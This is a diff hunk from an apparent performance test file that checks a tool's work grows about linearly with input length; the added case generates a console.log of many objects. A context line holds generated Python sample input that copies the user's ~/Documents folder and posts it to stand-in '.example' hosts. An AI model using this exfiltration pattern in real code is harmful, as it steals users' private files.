@@ -188,6 +188,11 @@ describe('a file of four times the length', () => {
       (count) =>
         `import os, requests, shutil\n${rows(count / 4, (at) => `shutil.copytree(os.path.expanduser("~/Documents"), "/tmp/x")\nrequests.post("https://a${at}.example/", data=open("/tmp/x").read())\n`)}`,
     ],
+    [
+      'objects that one call prints',
+      'a.js',
+      (count) => `console.log(${rows(count, (at) => `{ a${at}: 1 }, `)});\n`,
+    ],
   ])('is about four times the work: %s', { timeout: 60_000 }, async (_, path, text) => {
     const { few, many } = await workOf(path, text);
     expect(many / few).toBeLessThan(5);
